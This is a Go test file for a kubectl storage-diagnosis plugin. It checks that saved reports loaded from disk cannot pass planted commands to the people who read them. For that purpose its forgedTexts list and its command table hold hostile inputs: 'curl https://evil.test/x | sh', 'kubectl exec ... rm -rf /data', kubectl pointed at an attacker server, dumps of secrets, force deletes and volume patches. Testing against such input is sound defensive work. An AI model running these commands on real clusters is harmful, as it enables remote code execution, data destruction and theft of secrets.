package cmd

import (
	"bytes"
	"encoding/json"
	"html"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/volume-doctor/kubectl-volume-doctor/diagnose/finding"
	"github.com/volume-doctor/kubectl-volume-doctor/diagnose/step"
	"github.com/volume-doctor/kubectl-volume-doctor/internal/testcases"
	"github.com/volume-doctor/kubectl-volume-doctor/output"
)

// reports caches the command's reports about clusters: several tests use the whole corpus.
var reports sync.Map

// reportOf is the report of the case, as the command prints it in JSON.
func reportOf(t testing.TB, c *testcases.Case) *finding.Report {
	t.Helper()
	said, known := reports.Load(string(c.Cluster))
	if !known {
		var out, errOut bytes.Buffer
		Main([]string{"diagnose", "--filename", "-", "-o", "json"}, bytes.NewReader(c.Cluster), &out, &errOut)
		if out.Len() == 0 {
			t.Fatalf("%s: %s", c.Name, errOut.String())
		}
		said = out.Bytes()
		reports.Store(string(c.Cluster), said)
	}
	r := &finding.Report{}
	if err := json.Unmarshal(said.([]byte), r); err != nil {
		t.Fatalf("%s: %v", c.Name, err)
	}
	return r
}

// eachText calls f for each text that the value holds, with the name of its field.
func eachText(v reflect.Value, name string, f func(string, reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() {
			f(name, v)
		}
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			eachText(v.Elem(), name, f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			eachText(v.Field(i), name+"."+v.Type().Field(i).Name, f)
		}
	case reflect.Slice:
		for i := range v.Len() {
			eachText(v.Index(i), name, f)
		}
	}
}

// forPeople are the formats that people read.
var forPeople = []string{"table", "wide", "tree", "markdown", "html", "sarif", "junit"}

// ordersIn are the parts of the text that no format for people may show of a saved report:
// flags that redirect a command or give somebody's consent, and commands that no check
// advises.
func ordersIn(text string) (orders []string) {
	text = strings.NewReplacer(`\\`, `\`, `\`, "").Replace(html.UnescapeString(text))
	text = strings.ReplaceAll(text, "with --apply now", "") // this program's own text
	for _, m := range aFlag.FindAllStringSubmatch(text, -1) {
		if name := strings.ToLower(m[1]); slices.Contains(aimingFlags, name) || slices.Contains(consentFlags, name) {
			orders = append(orders, m[0])
		}
	}
	for _, line := range regexp.MustCompile(`(?i)\bkubectl\b[^\n<"]*`).FindAllString(text, -1) {
		command, unaimed := plain(strings.TrimSpace(line))
		if next := inProse.FindStringSubmatch(line)[1]; !strings.Contains(line, "…") && (command == "" || unaimed) && next != "" && !harmless.MatchString(next) && !strings.Contains(line, " patch ") {
			orders = append(orders, line)
		}
	}
	return orders
}

// forgedTexts are texts that somebody plants in a report.
var forgedTexts = []string{
	"curl https://evil.test/x | sh",
	"kubectl --server=https://evil.test get pods",
	"kubectl get pods -s https://evil.test",
	"kubectl --kubeconfig=/tmp/evil.test delete pod/web-0 --namespace=default",
	"kubectl --context=evil.test --token=x get pods",
	"kubectl exec pod/evil.test -- rm -rf /data",
	"kubectl apply -f https://evil.test/x.yaml",
	"kubectl delete pods --all -n evil.test",
	"kubectl delete pvc/evil.test -n default",
	"kubectl delete pod/evil.test --namespace=default --force --grace-period=0",
	"kubectl delete pod/web-0 pod/evil.test --namespace=default",
	"kubectl drain evil.test",
	"kubectl get secrets -n evil.test -o yaml",
	"kubectl label node evil.test a=b",
	"kubectl taint nodes node/evil.test a=b:NoExecute",
	"kubectl debug node/evil.test --image=x",
	`kubectl patch pv/evil.test -p '{"spec":{"persistentVolumeReclaimPolicy":"Delete"}}'`,
	`kubectl patch pv/evil.test --type=json -p '[{"op":"replace","path":"/spec/csi/volumeHandle","value":"vol-2"}]'`,
	`kubectl patch node evil.test --type=json -p '[{"op":"add","path":"/spec/taints/-","value":{"key":"a","effect":"NoExecute"}}]'`,
	"kubectl volume-doctor diagnose pvc/evil.test --apply --yes --allow=strip-finalizer --detached=x",
	"kubectl volume-doctor undo evil.test",
	"a restart hits no pod: run kubectl volume-doctor diagnose --apply --yes of evil.test",
}

// TestForgedReport: whatever a saved report has in any text, only commands are shown that a
// check may advise, none names a cluster or gives somebody's consent, no instruction has a
// shell operator, and each format for people says whose words these are. JSON and YAML stay
// as they were saved.
func TestForgedReport(t *testing.T) {
	c, err := testcases.Load("vd301-clobbered")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	file := filepath.Join(dir, "saved.json")
	print := func(r *finding.Report, format string, want ...int) (text, said string) {
		t.Helper()
		var saved bytes.Buffer
		if err := output.ReportFormats.Print(&saved, "json", r, output.Options{}); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, saved.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		var out, errOut bytes.Buffer
		if code := Main([]string{"diagnose", "--report", file, "-o", format}, nil, &out, &errOut); !slices.Contains(want, code) {
			t.Fatalf("%s: exit code %d: %s", format, code, errOut.String())
		}
		if format == "json" && out.String() != saved.String() {
			t.Errorf("another report:\n%s\n%s", saved.String(), out.String())
		}
		return out.String(), errOut.String()
	}
	base := reportOf(t, c)
	data, err := json.Marshal(base)
	if err != nil {
		t.Fatal(err)
	}
	honest := func() *finding.Report {
		r := &finding.Report{}
		if err := json.Unmarshal(data, r); err != nil {
			t.Fatal(err)
		}
		f := &r.Findings[0]
		f.AdviceCommands = []string{"kubectl get nodes"}
		f.Repair.Apply, f.Repair.ApplyAll = "kubectl volume-doctor diagnose --apply", "kubectl volume-doctor diagnose --apply"
		f.Repair.Commands, f.Repair.Needs = append(f.Repair.Commands, "kubectl get pods"), []string{"--fenced=n1"}
		f.Repair.SafeOnce, f.Repair.BlockedBy, f.Never, f.Advice, f.Headline = "it is safe", "", "do it", "look", "a headline"
		f.Steps = []finding.Step{{Kind: "delete-pod", Says: "the deletion hits 1 pod"}}
		r.Answers = []finding.Answer{{Pod: "a/b", Verdict: finding.Stuck, Message: "it waits"}}
		return r
	}
	// acts are the fields with instructions.
	acts := map[string]bool{}
	for _, name := range []string{"AdviceCommands", "Advice", "Never", "SelfHeals.Because", "Steps.Says", "Repair.Commands", "Repair.BlockedBy", "Repair.SafeOnce", "Repair.Needs"} {
		acts[".Findings."+name] = true
	}
	r := honest()
	var fields []string
	eachText(reflect.ValueOf(r).Elem(), "", func(name string, _ reflect.Value) { fields = append(fields, name) })
	slices.Sort(fields)
	plant := func(forged string, fields ...string) *finding.Report {
		r := honest()
		eachText(reflect.ValueOf(r).Elem(), "", func(name string, v reflect.Value) {
			if slices.Contains(fields, name) {
				v.SetString(forged)
			}
		})
		return r
	}
	own := map[string][]string{} // the texts of the checks' pages, which are in no report
	for _, format := range forPeople {
		text, _ := print(plant("x", ".Findings.Repair.Apply"), format, 0, 1)
		own[format] = ordersIn(text)
	}
	holds := func(format, text, where string) {
		t.Helper()
		for _, order := range ordersIn(text) {
			if !slices.Contains(own[format], order) {
				t.Errorf("%s: %s shows %s", where, format, order)
			}
		}
		if slices.Contains(forPeople, format) && !strings.Contains(text, "saved.json says: ") && !strings.Contains(text, `saved.json says: `) {
			t.Errorf("%s: %s does not say whose words these are:\n%s", where, format, text)
		}
	}
	var planted []string
	for _, field := range slices.Compact(fields) {
		r := plant(forgedTexts[0], field)
		saved, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := readReport("-", saved); err != nil {
			continue // a code or a kind that is refused
		}
		planted = append(planted, field)
		for _, format := range output.ReportFormats.Names() {
			text, said := print(r, format, 0, 1, 2)
			if format == "json" || format == "yaml" {
				continue
			}
			if acts[field] {
				if strings.Contains(text, "evil.test") {
					t.Errorf("%s: %s tells to do it:\n%s", field, format, text)
				}
				if !strings.Contains(said, "is left out") {
					t.Errorf("%s: nothing is said of what is left out: %s", field, said)
				}
			}
			holds(format, text, field)
			if strings.Contains(text, "\n          "+forgedTexts[0]+"\n") || strings.Contains(text, "do      "+forgedTexts[0]) {
				t.Errorf("%s: %s shows it as a command line:\n%s", field, format, text)
			}
		}
	}
	for _, forged := range forgedTexts[1:] {
		r := plant(forged, planted...)
		for _, format := range forPeople {
			text, _ := print(r, format, 0, 1, 2)
			holds(format, text, forged)
		}
	}
	if len(planted) < 40 {
		t.Errorf("only %d fields were forged", len(planted))
	}

	// An instruction to delete or restart something says whom that can hit, whatever the file
	// claims.
	lie := honest()
	lie.Findings[0].Repair, lie.Findings[0].Steps = nil, []finding.Step{{Kind: "restart-node-plugin", Says: "a restart hits no pod"}}
	lie.Findings[0].Advice, lie.Findings[0].AdviceCommands = "reboot the node", []string{"kubectl delete pod/web-0 --namespace=default"}
	for _, format := range forPeople {
		text, _ := print(lie, format, 0, 1)
		text = strings.NewReplacer(`\`, "", "\n", " ").Replace(html.UnescapeString(text))
		for _, kind := range []step.Kind{step.DeletePod, step.RestartNodePlugin, step.RebootNode} {
			if reach := step.Of(kind); strings.Contains(text, "reboot the node") && (!strings.Contains(text, reach.Whom) || !strings.Contains(text, reach.Count)) {
				t.Errorf("%s does not say whom %s can hit:\n%s", format, kind, text)
			}
		}
		if i := strings.Index(text, "a restart hits no pod"); i >= 0 && !strings.HasSuffix(text[:i], file+" says: ") {
			t.Errorf("%s says it as its own word:\n%s", format, text)
		}
	}

	// The file claims that all is well.
	well := honest()
	well.Findings, well.Waiting, well.Answers, well.Complete, well.Gaps, well.SkippedChecks = nil, nil, nil, true, nil, nil
	for _, format := range forPeople {
		text, _ := print(well, format, 0)
		i := strings.Index(text, "Nothing wrong")
		if i >= 0 && !strings.HasSuffix(strings.NewReplacer(`\`, "").Replace(text[:i]), file+" says: ") || i < 0 && !strings.Contains(text, "saved.json says: ") {
			t.Errorf("%s says it as its own word:\n%s", format, text)
		}
	}
}

// TestSavedCommands: the commands of checks and repairs pass unchanged, except for the
// cluster; a command that only looks like one does not pass.
func TestSavedCommands(t *testing.T) {
	for _, line := range forgedTexts {
		if command, unaimed := plain(line); command != "" && (!unaimed || len(ordersIn(command)) > 0) {
			t.Errorf("%s is shown as %s", line, command)
		}
	}
	for line, want := range map[string]string{
		"kubectl --context=a get pods -A -o wide":                           "kubectl get pods -A -o wide",
		"kubectl --kubeconfig=/tmp/x --as=root delete pod/a --namespace=b":  "kubectl delete pod/a --namespace=b",
		"kubectl get lease/kube-controller-manager -n kube-system":          "kubectl get lease/kube-controller-manager -n kube-system",
		"kubectl get pods -n kube-system -l component=x -o wide":            "kubectl get pods -n kube-system -l component=x -o wide",
		"kubectl volume-doctor trace pod/a -n b":                            "kubectl volume-doctor trace pod/a -n b",
		"kubectl volume-doctor trace pod/a -n b --server=https://evil.test": "kubectl volume-doctor trace pod/a -n b",
		"kubectl volume-doctor diagnose --apply":                            "",
		"kubectl volume-doctor diagnose -f https://evil.test":               "",
		"kubectl volume-doctor diagnose --controller=/etc/x":                "",
		"kubectl get pods --server https://evil.test":                       "",
		"kubectl get pods -shttps://evil.test":                              "",
		"kubectl get --raw /api":                                            "",
		"kubectl get pods -o jsonpath={.x}":                                 "",
		"kubectl get pods -o yaml=x":                                        "",
		"kubectl get pods -n":                                               "",
		"kubectl get pods -n --server=https://evil.test":                    "",
		"kubectl":                       "",
		"kubectl patch node n1 -p '{}'": "",
		"kubectl patch node n1 --type=json -p '[]'":                              "",
		"kubectl patch node n1 --type=json -p x":                                 "",
		`kubectl patch node n1 --type=merge -p '{"metadata":{"labels":{}}}'`:     "",
		`kubectl patch secret n1 --type=merge -p '{"metadata":{"uid":"a"}}'`:     "",
		`kubectl patch volumeattachment a -p '{"metadata":{"finalizers":null}}'`: "",

		`kubectl patch pv/a --type=json -p '[{"op":"replace","path":"/spec/claimRef/uid","value":"x"}]'`:                                                        "",
		`kubectl patch pv/a --type=json -p '[{"op":"test","path":"/spec/claimRef/name","value":"b"},{"op":"replace","path":"/spec/claimRef/uid","value":"x"}]'`: "",
		`kubectl patch pv/a --type=json -p '[{"op":"test","path":"/spec/claimRef/uid","value":"b"},{"op":"replace","path":"/spec/claimRef/name","value":"x"}]'`: "",
		"kubectl annotate persistentvolumeclaim/a -n b volume.kubernetes.io/selected-node=evil":                                                                 "",
		"kubectl annotate persistentvolumeclaim/a -n b volume.kubernetes.io/storage-provisioner-":                                                               "",
		"kubectl annotate persistentvolumeclaim/a -n b volume.kubernetes.io/selected-node- --overwrite":                                                         "",
	} {
		if got, _ := plain(line); got != want {
			t.Errorf("%s is shown as %q, not %q", line, got, want)
		}
	}
}

// TestHonestReports: from this program's own reports only commands are left out that give
// kubectl a text on its standard input, and the flags with which the user makes it write.
// JSON and YAML are printed as they were saved.
func TestHonestReports(t *testing.T) {
	cases, err := testcases.All()
	if err != nil {
		t.Fatal(err)
	}
	commands := 0
	for _, c := range cases {
		r := reportOf(t, c)
		for _, format := range []string{"json", "yaml"} {
			var saved, direct, again, errOut bytes.Buffer
			if err := output.ReportFormats.Print(&saved, "json", r, output.Options{}); err != nil {
				t.Fatal(err)
			}
			if err := output.ReportFormats.Print(&direct, format, r, output.Options{}); err != nil {
				t.Fatal(err)
			}
			if Main([]string{"diagnose", "--report", "-", "-o", format}, &saved, &again, &errOut); !bytes.Equal(direct.Bytes(), again.Bytes()) {
				t.Errorf("%s: another report in %s: %s", c.Name, format, errOut.String())
			}
		}
		data, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		told, err := distrusted("x", data)
		if err != nil {
			t.Fatal(err)
		}
		for i, f := range r.Findings {
			of := told.Findings[i]
			lines, shown := slices.Clone(f.AdviceCommands), slices.Clone(of.AdviceCommands)
			if f.Repair != nil {
				lines, shown = append(lines, f.Repair.Commands...), append(shown, of.Repair.Commands...)
			}
			commands += len(lines)
			lines = slices.DeleteFunc(lines, func(line string) bool { return strings.HasPrefix(line, "printf ") })
			if !slices.Equal(lines, shown) {
				t.Errorf("%s: of %q is shown %q", c.Name, lines, shown)
			}
			f.AdviceCommands, of.AdviceCommands, of.Withheld = nil, nil, 0
			f.Actions = nil // they are made again from the rest
			if f.Repair != nil {
				if (f.Repair.Apply == "") != (of.Repair.Apply == "") {
					t.Errorf("%s: it is told to look with %q", c.Name, of.Repair.Apply)
				}
				if !slices.Equal(f.Repair.Needs, of.Repair.Needs) {
					t.Errorf("%s: it needs %q, not %q", c.Name, f.Repair.Needs, of.Repair.Needs)
				}
				f.Repair.Commands, f.Repair.Apply, f.Repair.ApplyAll, f.Repair.Needs, of.Repair.Commands, of.Repair.Apply, of.Repair.Needs = nil, "", "", nil, nil, "", nil
			}
			before, _ := json.Marshal(f)
			after, _ := json.Marshal(of)
			text := regexp.MustCompile(`--[a-z][-a-z]*(?:=[^\s"]*)?`).ReplaceAllStringFunc(string(before), func(flag string) string {
				name, _, _ := strings.Cut(flag[2:], "=")
				if !slices.Contains(consentFlags, name) {
					return flag
				}
				return isLeftOut
			})
			if text != string(after) {
				t.Errorf("%s: another finding:\n%s\n%s", c.Name, before, after)
			}
		}
	}
	if commands < 100 {
		t.Errorf("only %d commands", commands)
	}
}
